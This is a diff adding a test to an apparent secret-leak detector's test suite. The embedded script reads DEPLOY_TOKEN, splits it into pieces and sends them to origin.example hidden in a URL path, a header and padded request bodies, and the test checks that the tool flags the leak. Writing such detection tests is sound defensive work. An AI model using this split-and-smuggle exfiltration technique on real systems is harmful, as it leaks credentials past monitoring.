@@ -176,6 +176,38 @@ def test_values_of_the_environment_and_of_credential_files_do_not_leave_in_any_w
     assert {"registered:DEPLOY_TOKEN", "registered:DATABASE_URL"} <= found
 
 
+PARTS = """
+import json, os, urllib.error, urllib.request as u
+def send(path, fields, body):
+    try:
+        request = u.Request("https://origin.example" + path, data=body, headers=fields)
+        return u.urlopen(request).status
+    except urllib.error.HTTPError as error:
+        return error.code
+value = os.environ["DEPLOY_TOKEN"]
+one, two, three, four = (value[at:at + 10] for at in range(0, 40, 10))
+print(json.dumps([
+    send("/in/x" + three, {}, b"-"),
+    send("/in", {"X-Note": "a" + one + "b"}, b"-"),
+    send("/in", {}, b"lorem " * 3000 + two.encode() + b" ipsum" * 3000),
+    send("/in", {}, b"[" + four.encode() + b"]"),
+    send("/in", {}, b"honest"),
+]))
+"""
+
+
+def test_parts_of_a_value_in_unlike_requests_are_stopped(place):
+    ran = place.run(sys.executable, "-c", PARTS, DEPLOY_TOKEN=place.values["DEPLOY_TOKEN"])
+    assert ran.returncode == 0, ran.stderr
+    said = json.loads(ran.stdout.splitlines()[0])
+    assert said[:2] == [200, 200]
+    assert 403 in said[2:4]
+    assert said[4] == 200
+    records = [record for _, record in read_state(place.state)]
+    pieces = [f for one in records for f in one.findings if f.location == "pieces"]
+    assert {finding.rule for finding in pieces} == {"registered:DEPLOY_TOKEN"}
+
+
 def test_a_source_that_cannot_be_read_ends_the_start(place):
     ran = place.run("true", options=("--secrets-from", "missing.env"))
     assert ran.returncode == 3
